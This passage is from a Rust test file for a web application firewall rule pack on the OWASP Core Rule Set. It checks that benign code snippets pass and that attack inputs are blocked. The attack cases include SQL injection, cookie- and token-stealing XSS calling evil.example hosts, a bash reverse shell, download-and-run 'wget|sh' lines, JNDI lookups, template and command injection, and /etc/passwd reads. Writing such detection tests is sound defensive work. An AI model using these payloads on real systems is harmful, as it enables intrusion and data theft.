        ("a JS statement that only logs (934100)", json(r#"{"code":"if (x < 10 && y > 3) { console.log('ok'); }"}"#)),
        ("a fetch call chain (942151)", form(&[("body", "fetch('/api/items').then(r => r.json()).then(items => console.log(items.length));")])),
        ("an event listener with a string", json(r#"{"code":"window.addEventListener('load', () => { document.querySelector('#menu').classList.add('ready'); });"}"#)),
        ("a search libinjection reads as SQL words", q("null and void meaning")),
        ("a Markdown question with Python in a fence", json(r#"{"body":"I tried this:\n\n```python\nimport os\nprint(os.environ.get('HOME'))\n```\n\nbash: command not found. Works when I type it myself."}"#)),
        ("a Markdown question with SQL in a fence", form(&[("body", "This is what I have so far:\n\n```sql\nSELECT name FROM cities WHERE country = 'FR'\nUNION\nSELECT name FROM towns WHERE country = 'FR';\n```\n\nbut the result has duplicates.")])),
        ("a Markdown list with inline code and a link", json(r####"{"body":"### Known issues\n\n1. `Select all` ignores filters ([#412](https://git.example.org/shop/issues/412))\n2. Delete button greyed out on Safari"}"####)),
        ("a shell pipeline into text filters (932235, 932250)", form(&[("body", "ls -la ~/Downloads | sort -k5 -n | tail")])),
        ("a recursive grep with a glob option (932260)", json(r#"{"code":"grep -rn 'TODO' src/ --include='*.py'"}"#)),
        ("a tar naming its archive by date (932130)", form(&[("body", "tar -czf backup-$(date +%F).tar.gz ~/projects")])),
        ("a chat line with a grep counted by wc", json(r#"{"text":"grep -r \"TODO\" src | wc -l → 412. we have a problem"}"#)),
        ("a loop a developer posts (4230100)", json(r#"{"code":"for i in $(seq 1 5); do curl -s https://api.example.com/health; sleep 2; done"}"#)),
        ("a read loop (932235)", form(&[("body", "while read line; do echo \"$line\"; done < hosts.txt")])),
        ("a video embed", form(&[("body", "<iframe src=\"https://www.youtube.com/embed/dQw4\" width=\"560\" height=\"315\" allowfullscreen></iframe>")])),
        ("a check whose && and || only print (932235)", json(r#"{"code":"ping -c 4 example.com && echo up || echo down"}"#)),
        ("a clean, then the project's build (932235)", form(&[("body", "rm -r build/ && make -j4")])),
        ("process ids printed by awk and signalled (932235, 932370, 942550)", form(&[("body", "ps aux | grep node | awk '{print $2}' | xargs kill")])),
        ("a PHP prepared statement (933210)", json(r#"{"code":"$stmt = $pdo->prepare('SELECT * FROM posts WHERE id = ?');\n$stmt->execute([$id]);"}"#)),
        ("a lone dialog with a literal message (941390)", json(r#"{"code":"alert('Saved!'); // TODO replace with a toast"}"#)),
        ("a tag list with C# in a cookie (932120)", Req::get("/").header("Cookie", "recent_tags=powershell%2Ckubernetes%2Cc%23%2Crust")),
        ("an e-mail reply with a quoted line (932235)", json(r#"{"text":"Hi,\n\nI reset my password twice today; each time the link says 'token expired'.\n\nCheers,\nGiulia\n\n> Get Outlook for Android"}"#)),
        ("Markdown with an image, a footnote, mentions and keys (932235, 942190)", json(r###"{"markdown":"## Local setup\n\n1. Clone: `git clone git@github.com:example/shop.git && cd shop`\n2. Load fixtures: `./manage.py loaddata demo`\n\nWe know about `UNION ALL` vs `UNION`. We have opinions.[^1] <kbd>q</kbd> quits; `;`-separated files work. Ask @siobhan.\n\n![architecture diagram](https://wiki.example/uploads/arch.png \"Architecture\")\n\n[^1]: `UNION ALL`, unless you need the dedupe."}"###)),
        ("a build name with an arrow (932260)", json(r#"{"builds":[{"name":"rsync -> staging","state":"passed"}]}"#)),
        ("a Markdown quote (942360)", json(r#"{"body":"> Drop me a line when you're back.\n>\n> (and select a date)\n\nWill do. Also: the `echo` pedal is in the **left** drawer."}"#)),
    ];
    let mut failures = Vec::new();
    for (what, req) in &benign {
        let o = run(rules, req);
        if o.interruption.is_some() {
            failures.push(format!("benign blocked ({what}): {}", describe(&o)));
        }
    }
    let body = |v: &str| form(&[("body", v)]);
    let attacks: Vec<(&str, Req)> = vec![
        ("tautology", q("1' or '1'='1")),
        ("union in a numeric context", q("1 union select password from users")),
        ("statement keyword, then a comment", body("select * from users where name='' or 1=1 -- ")),
        ("script with a dialog", q("<script>alert(document.domain)</script>")),
        ("handler reading the cookie", q("<img src=x onerror=fetch('//evil.example/'+document.cookie)>")),
        ("script from another origin", q("<script src=//evil.example/x.js></script>")),
        ("inline script acting as the user", q("<script>fetch('/api/account/delete',{method:'POST'});x=1</script>")),
        ("shell variable evasion", q("cat${IFS}/etc/passwd")),
        ("command after a separator", q("127.0.0.1; cat /etc/passwd")),
        ("metadata URL", q("http://169.254.169.254/latest/meta-data/")),
        ("base64 of PHP code", q(&b64(b"eval(base64_decode('ZWNobyAxOw=='));", false))),
        ("cmd IF running a command", q("x& if 1==1 calc")),
        ("cmd IF EXIST", q("if exist c:\\boot.ini type c:\\boot.ini")),
        ("cmd FOR", q("for /f %i in ('whoami') do echo %i")),
        ("brace expansion hiding a blank", q("{ls,-la}")),
        ("a direct command", q("uname -a")),
        ("a direct command with a quoted parenthesis", q("echo '(' ; uname -a")),
        ("Node require", q("require('child_process').exec('id')")),
        ("Node console of the environment", q("console.log(process.env)")),
        ("a schema-qualified sleep", q("pg_catalog.pg_sleep(5)")),
        ("a frame with a script URL", q("<iframe src=javascript:alert(1)>")),
        ("an attack, then a line of prose", q("')\nuNiOn\nsElEcT\nname,sql\nfRoM\nsqlite_master--")),
        ("a direct command, then a line that does not parse", q("uname -a\nf(x")),
        ("words-only union", q("1 union select password from users")),
        ("a tautology in a Markdown fence", body("This is what I tried:\n\n```\n' or '1'='1' --\n```\n\nAny idea?")),
        ("a tautology in the prose before a fenced statement", body("x' or 1 --\n```sql\nSELECT 1\n```")),
        ("a command in a fence with no prose", body("```\n;cat /etc/passwd\n```")),
        ("a tautology in a table cell", json(r#"{"body":"| user | note |\n|---|---|\n| admin' or '1'='1 | x |"}"#)),
        ("a union after a quote in the prose before a fence", json(r#"{"body":"x' union select password from users where 'a\n```sql\nSELECT 1\n```"}"#)),
        ("an image that sends the stored token away", q("<img src=x onerror=\"this.src='https://collect.example.net/p?d='+btoa(localStorage.getItem('token'))\">")),
        ("an upload name that splits the header", Req::post("/upload", "multipart/form-data; boundary=b", b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.php\\\";.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nx\r\n--b--\r\n")),
        ("a body type nobody sends an API", Req::post("/api/v1/x", "application/x-evil", b"x")),
        ("a method CRS and this pack leave out", Req::new("PROPFIND", "/api/v1/orders/123")),
        ("a Windows command after a line break", q("report.pdf\nwhoami /all")),
        ("a Windows command after an import line", q("import os\n& net user eve S3cret! /add")),
        ("a tautology in rich text", json(r#"{"body_html":"<p>&#39; or &#39;1&#39;=&#39;1</p>"}"#)),
        ("a union in rich text", json(r#"{"body_html":"<p>x&#39; union select password from users -- </p>"}"#)),
        ("a script in rich text", json(r#"{"body_html":"<p>hello</p><script>alert(document.cookie)</script>"}"#)),
        ("a reverse shell in a fence", body("Look:\n\n```\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n```\n\nAny idea?")),
        ("a download run by a shell, in inline code", json(r#"{"text":"We saw `wget -qO- 198.51.100.23/k|sh` in the logs"}"#)),
        ("a secret read in a fence", body("Try this:\n\n```\n127.0.0.1; cat /etc/passwd\n```")),
        ("a probe's answer sent by DNS, in prose", arg("message", "hello there; nslookup `whoami`.x.evil.example friend")),
        ("a delay ending a fence", body("Try this:\n\n```\n; sleep 7 #\n```\n\nthanks")),
        ("a ping of the loopback address in a fence", body("Try this:\n\n```\n|| ping -c 10 127.0.0.1\n```\n\nthanks")),
        ("a command substitution alone", q("`uname -a`")),
        ("a command after a double ampersand, in words", q("hello && id")),
        ("a script in a Markdown fence", body("Look:\n\n```\n<script>alert(document.cookie)</script>\n```")),
        ("a tautology", q("1 or 1=1")),
        ("words-only order by", q("1 order by 10")),
        ("a quote and a truth test", q("x' or 'x")),
        ("a command split by empty quotes", q(";c''a\"\"t /e?c/p??swd")),
        ("IFS as a blank", q("cat${IFS}/etc/passwd")),
        ("a parameter splitting a command", q(";c${u}at${IFS}/e${u}tc/pas${u}swd")),
        ("a slash cut from PATH", q("${PATH:0:1}bin${PATH:0:1}sh -c id")),
        ("PHP code in a variable name", q("${system('id')}")),
        ("a JNDI lookup", Req::get("/").header("X-Api-Version", "${jndi:ldap://203.0.113.9:1389/a}")),
        ("jndi spelled with nested lookups", arg("name", "${${lower:j}${lower:n}di:ldap://203.0.113.9/a}")),
        ("jndi spelled with default values", arg("name", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.9/a}")),
        ("OGNL running a command", arg("name", "%{(#rt=@java.lang.Runtime@getRuntime().exec('id'))}")),
        ("SpEL running a command", arg("name", "T(java.lang.Runtime).getRuntime().exec('id')")),
        ("Java code as the whole value", arg("script", "Runtime.getRuntime().exec(\"id\")")),
        ("a direct command with an option", q("cat -n /etc/passwd")),
        ("a command after a separator, in words", arg("message", "hello; wget http://203.0.113.9/x -O /tmp/x")),
        ("cmd carets", q("&c^m^d /c \"who^ami\"")),
        ("SMTP commands after a line break", form(&[("message", "hello\r\n.\r\nMAIL FROM:<x@evil.example>\r\nRCPT TO:<v@example.org>\r\nDATA")])),
        ("a forged log line", form(&[("user", "guest\n[2026-01-01 00:00:00] INFO login succeeded user=admin")])),
        ("a traversal with %u2215", q("..%u2215..%u2215..%u2215proc%u2215self%u2215cmdline")),
        ("a sensitive file as the whole value", arg("file", "/etc/passwd")),
        ("a sensitive file after a blank and a quote", arg("file", " '/etc/shadow")),
        ("a sensitive file behind a wrapper", arg("file", "php://filter/convert.base64-encode/resource=/etc/passwd")),
        ("a sensitive file after a traversal, with words", arg("file", "report x/../../etc/passwd")),
        ("a sensitive file in a header", Req::get("/").header("X-File", "/etc/passwd")),
        ("a Smarty condition running a command", q("{if system('cat /etc/passwd')}{/if}")),
        ("COPY TO PROGRAM", q("1;COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.9/x|sh'--")),
        ("COPY TO PROGRAM in a header", Req::get("/").header("X-Forwarded-For", "1;COPY (SELECT '') TO PROGRAM 'id'--")),
        ("overlong dots in base64", arg("file", &b64(b"%c0%ae%c0%ae/%c0%ae%c0%ae/etc/group", false))),
        ("a Smarty condition running a command, in base64", Req::get("/").header("X-Template", &b64(b"{if system('cat /etc/passwd')}{/if}", false))),
        ("a traversal with %u2215, URL-encoded once more", q("..%25u2215..%25u2215..%25u2215proc%25u2215self%25u2215cmdline")),
        ("a callback named as a string", q("call_user_func_array('shell_exec',array('uname -a'));")),
        ("a function name joined and called", q("$a='sys'.'tem';$a('id');")),
        ("Mako reaching os.system", q("${self.module.cache.util.os.system(\"id\")}")),
        ("Razor starting a process", q("@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")")),
        ("an address in circled digits", q("http://\u{246f}\u{2468}\u{3002}\u{2461}\u{2464}\u{2463}\u{3002}\u{246f}\u{2468}\u{ff61}\u{2461}\u{2464}\u{2463}/latest/user-data")),
        ("a tab inside the script scheme", q("<a href=\"jav&#x09;ascript:alert(1)\">x</a>")),
        ("a script scheme with a tab, in a header", Req::get("/").header("X-Return-To", "jav\tascript:alert(1)")),
        ("an event handler in base64", q(&b64(b"<input onauxclick=confirm(1)>", false))),
        ("base64 of a URL-encoded traversal", q(&b64(b"..%2f..%2f..%2fetc%2fpasswd", false))),
        ("a listing piped into a filter that reads a file", body("ls -la | tail config.php")),
        ("a listing piped into a command", body("ls -la | xargs rm -rf")),
        ("a grep of an absolute path", body("grep root /etc/passwd")),
        ("a listing of the parent directories", body("ls -la ../../")),
        ("a listing with a substitution other than date", body("ls -la $(whoami)")),
        ("a listing, then a command", body("ls -la; id")),
        ("a listing with a date, then a line break and a command", body("ls $(date +%F)\nid")),
        ("a command outside the list, piped into a filter", body("uname -a | head")),
        ("a listing of a dot file piped into a filter", body("grep -r key .env | head")),
        ("a loop over a substitution that runs a command", body("for i in $(whoami); do echo $i; done")),
        ("a loop header, then a line break and a command", body("for i in 1\nid; do echo; done")),
        ("a loop header with a separator before its do", body("for i in 1 && id; do echo; done")),
        ("a build step, then a command", body("git status && id")),
        ("a build step, then a substitution in the message", body("ping -c 1 x && echo $(id)")),
        ("a build step, then make of a file elsewhere", body("rm -r build/ && make -f /tmp/x.mk")),
        ("a word, then a message", body("x && echo pwned")),
        ("a listing into an awk that runs a command", body("ps aux | awk '{system(\"id\")}'")),
        ("a listing into kill of a chosen process", body("ps aux | xargs kill -9 1")),
        ("a function named by a superglobal", q("$_GET['f']($_GET['x']);")),
        ("a dialog showing the cookie", q("alert(document.cookie)//")),
        ("a dialog whose message is markup", q("alert('<img src=x onerror=alert(1)>')")),
        ("a quoted line, then a command", body("> see below\nid")),
        ("a server variable in words", q("1 union select @@version")),
        ("a script in a link title", body("read [this](https://example.org/ \"<script>alert(document.cookie)</script>\")")),
        ("a tautology after an arrow", body("x -> ' or '1'='1' --")),
        ("a quoted tautology", body("> x' or '1'='1' --")),
        ("a quoted line with a path", body("> x; cat /etc/passwd")),
    ];
    for (what, req) in &attacks {
        let o = run(rules, req);
        if o.interruption.is_none() {
            failures.push(format!("attack passed ({what}): {}", describe(&o)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    println!("confirmation cases: {} benign, {} attacks", benign.len(), attacks.len());
}

/// SecGraphQLArguments (00-init.conf): a value written inside a GraphQL
/// document is read as a whole value, by `@builtin` alone and next to CRS;
/// the same document with ordinary values passes.
#[test]
fn graphql_inline_values_are_whole_values() {
    let gql = |query: &str| json(&format!(r#"{{"query": "{}", "variables": {{}}}}"#, json_str(query, false)));
    let attacks = [
        ("SQL in base64", format!(r#"mutation {{ updateProfile(input: {{ id: "{}", locale: "en-GB" }}) {{ id }} }}"#, b64(b"1 union select password from users--", false))),
        ("SSI in base64", format!(r#"mutation {{ updateProfile(input: {{ footer: "{}" }}) {{ id }} }}"#, b64(b"<!--#exec cmd=\"id\"-->", false))),
        ("an internal URL", r#"query { customer(id: "C-4471") { orders(imageUrl: "http://169.254.169.254/latest/meta-data/", first: 5) { id } } }"#.to_string()),
        ("a command in a GraphQL escape", r#"query { ping(host: "127.0.0.1\u003b cat /etc/passwd") { ok } }"#.to_string()),
    ];
    let benign = gql(r#"query Search($first: Int!) { products(query: "union station select seats", after: "Y3Vyc29yOjQy", first: $first) { nodes { id name } } }"#);
    let mut sets = vec![("@builtin", pack())];
    if let Some(crs) = with_crs() {
        sets.push(("@builtin @crs", crs));
    }
    for (name, rules) in sets {
        for (what, doc) in &attacks {
            let o = run(rules, &gql(doc));
            assert!(o.interruption.is_some(), "{name}: {what} passed: {}", describe(&o));
        }
        let o = run(rules, &benign);
        assert!(o.interruption.is_none(), "{name}: benign GraphQL blocked: {}", describe(&o));
    }
    println!("GraphQL cases: {} attacks, 1 benign", attacks.len());
}

/// 00-init.conf: a structured-syntax JSON or XML type is allowed next to
/// the pack's default body types, and not when a list was set before it.
#[test]
fn structured_suffix_types_follow_the_default_list_only() {
    let narrowed = ["SecAction \"id:100,phase:1,pass,nolog,setvar:'tx.allowed_request_content_type=|application/json|'\""];
    let (Some(default), Some(narrow)) = (with_crs(), build_with_crs(&narrowed)) else {
        println!("SKIPPED: no CRS at {}", crs_dir().display());
        return;
    };
    let vendor = Req::post("/api/v2/orders", "application/vnd.shop.v2+json", br#"{"qty":2}"#);
    assert!(run(default, &vendor).interruption.is_none(), "{}", describe(&run(default, &vendor)));
    let o = run(&narrow, &vendor);
    assert!(o.interruption.is_some() && o.ids().contains(&920_420), "{}", describe(&o));
    let plain = Req::post("/api/v2/orders", "application/json", br#"{"qty":2}"#);
    assert!(run(&narrow, &plain).interruption.is_none(), "{}", describe(&run(&narrow, &plain)));
    // Not a suffix type: still refused.
    let odd = Req::post("/api/v2/orders", "application/evil+jsonx", br#"{"qty":2}"#);
    assert!(run(default, &odd).interruption.is_some(), "{}", describe(&run(default, &odd)));
    println!("content type cases: 4");
}

/// docs/detection.md, "Fields that hold code": an application whose form
/// field holds code by design (a developer forum's post body) declares it
/// with SecRuleUpdateTargetByTag, as the CRS documents for its exclusions;
/// the field's code then passes and an attack in any other field is still
/// blocked.
#[test]
fn a_field_declared_as_code_passes_code_and_nothing_else() {
    let families = ["attack-rce", "attack-xss", "attack-sqli", "attack-injection-php", "attack-injection-generic", "attack-php"];
    let lines: Vec<String> = families.iter().map(|t| format!("SecRuleUpdateTargetByTag {t} \"!ARGS:body|!ARGS:json.body|!ARGS:json.code\"")).collect();
    let prelude: Vec<&str> = lines.iter().map(String::as_str).collect();
    let (Some(plain), Some(forum)) = (with_crs(), build_with_crs(&prelude)) else {
        println!("SKIPPED: no CRS at {}", crs_dir().display());
        return;
    };
    let posts = [
        form(&[("title", "Is this install line safe?"), ("body", "curl -fsSL https://get.docker.com | sh")]),
        json(r#"{"title":"How do I do this?","body":"Minimal example:","code":"make clean && make -j4 > build.log 2>&1"}"#),
        json(r#"{"title":"Banner","body":"This works locally:","code":"<script>document.write('<b>Sale</b>')</script>"}"#),
    ];
    for post in &posts {
        assert!(run(plain, post).interruption.is_some(), "blocked without the declaration: {}", describe(&run(plain, post)));
        let o = run(&forum, post);
        assert!(o.interruption.is_none(), "code field not passed: {}", describe(&o));
    }
    let attack = form(&[("title", "<script>alert(document.cookie)</script>"), ("body", "ls -la")]);
    let o = run(&forum, &attack);
    assert!(o.interruption.is_some(), "attack in another field passed: {}", describe(&o));
    println!("code field cases: {} posts, 1 attack", posts.len());
}

// ---------------------------------------------------------------------------
// A small JSON reader for the corpus files (std only).

mod mini_json {
    /// A JSON value.
    #[derive(Debug)]
    pub enum Value {
        Null,
        Bool(#[allow(dead_code)] bool),
        Num(#[allow(dead_code)] f64),
        Str(String),
        Arr(Vec<Value>),
        Obj(Vec<(String, Value)>),
    }

    impl Value {
        pub fn get(&self, key: &str) -> Option<&Value> {
            match self {
                Value::Obj(m) => m.iter().find(|(k, _)| k == key).map(|(_, v)| v),
                _ => None,
            }
        }
        pub fn str(&self) -> Option<&str> {
            match self {
                Value::Str(s) => Some(s),
                _ => None,
            }
        }
        pub fn arr(&self) -> Option<&[Value]> {
            match self {
                Value::Arr(a) => Some(a),
                _ => None,
            }
        }
    }

    pub fn parse(s: &str) -> Result<Value, String> {
        let mut p = P { b: s.as_bytes(), i: 0 };
        let v = p.value()?;
        p.ws();
        if p.i != p.b.len() {
            return Err(format!("trailing data at {}", p.i));
        }
        Ok(v)
    }

    struct P<'a> {
        b: &'a [u8],
        i: usize,
    }

    impl P<'_> {
        fn ws(&mut self) {
            while self.i < self.b.len() && self.b[self.i].is_ascii_whitespace() {
                self.i += 1;
            }
        }
        fn eat(&mut self, c: u8) -> Result<(), String> {
            self.ws();
            if self.b.get(self.i) == Some(&c) {
                self.i += 1;
                Ok(())
            } else {
                Err(format!("expected `{}` at {}", c as char, self.i))
            }
        }
        fn value(&mut self) -> Result<Value, String> {
            self.ws();
            match self.b.get(self.i) {
                Some(b'{') => {
                    self.i += 1;
                    let mut m = Vec::new();
                    self.ws();
                    if self.b.get(self.i) == Some(&b'}') {
                        self.i += 1;
                        return Ok(Value::Obj(m));
                    }
                    loop {
                        self.ws();
                        let k = self.string()?;
                        self.eat(b':')?;
                        m.push((k, self.value()?));
                        self.ws();
                        match self.b.get(self.i) {
                            Some(b',') => self.i += 1,
                            Some(b'}') => {
                                self.i += 1;
                                return Ok(Value::Obj(m));
                            }
                            _ => return Err(format!("bad object at {}", self.i)),
                        }
                    }
                }
                Some(b'[') => {
                    self.i += 1;
                    let mut a = Vec::new();
                    self.ws();
                    if self.b.get(self.i) == Some(&b']') {
                        self.i += 1;
                        return Ok(Value::Arr(a));
                    }
                    loop {
                        a.push(self.value()?);
                        self.ws();
                        match self.b.get(self.i) {
                            Some(b',') => self.i += 1,
                            Some(b']') => {
                                self.i += 1;
                                return Ok(Value::Arr(a));
                            }
                            _ => return Err(format!("bad array at {}", self.i)),
                        }
                    }
                }
                Some(b'"') => Ok(Value::Str(self.string()?)),
                Some(b't') if self.b[self.i..].starts_with(b"true") => {
                    self.i += 4;
                    Ok(Value::Bool(true))
                }
                Some(b'f') if self.b[self.i..].starts_with(b"false") => {
                    self.i += 5;
                    Ok(Value::Bool(false))
                }
                Some(b'n') if self.b[self.i..].starts_with(b"null") => {
                    self.i += 4;
                    Ok(Value::Null)
                }
                Some(_) => {
                    let start = self.i;
                    while self.i < self.b.len() && (self.b[self.i].is_ascii_digit() || b"+-.eE".contains(&self.b[self.i])) {
                        self.i += 1;
                    }
                    std::str::from_utf8(&self.b[start..self.i]).unwrap().parse().map(Value::Num).map_err(|_| format!("bad value at {start}"))
                }
                None => Err("unexpected end".into()),
            }
        }
        fn hex4(&mut self) -> Result<u32, String> {
            let h = self.b.get(self.i..self.i + 4).ok_or("short \\u escape")?;
            self.i += 4;
            u32::from_str_radix(std::str::from_utf8(h).map_err(|e| e.to_string())?, 16).map_err(|e| e.to_string())
        }
        fn string(&mut self) -> Result<String, String> {
            self.eat(b'"')?;
            let mut out: Vec<u8> = Vec::new();
            loop {
                let c = *self.b.get(self.i).ok_or("unterminated string")?;
                self.i += 1;
                match c {
                    b'"' => return String::from_utf8(out).map_err(|e| e.to_string()),
                    b'\\' => {
                        let e = *self.b.get(self.i).ok_or("bad escape")?;
                        self.i += 1;
                        let ch = match e {
                            b'"' => '"',
                            b'\\' => '\\',
                            b'/' => '/',
                            b'b' => '\u{8}',
                            b'f' => '\u{c}',
                            b'n' => '\n',
                            b'r' => '\r',
                            b't' => '\t',
                            b'u' => {
                                let mut cp = self.hex4()?;
                                if (0xD800..0xDC00).contains(&cp) && self.b[self.i..].starts_with(b"\\u") {
                                    self.i += 2;
                                    let lo = self.hex4()?;
                                    cp = 0x10000 + ((cp - 0xD800) << 10) + (lo.wrapping_sub(0xDC00) & 0x3FF);
                                }
                                char::from_u32(cp).unwrap_or('\u{FFFD}')
                            }
                            _ => return Err(format!("bad escape at {}", self.i)),
                        };
                        let mut buf = [0u8; 4];
                        out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
                    }
                    _ => out.push(c),
                }
            }
        }
    }
}
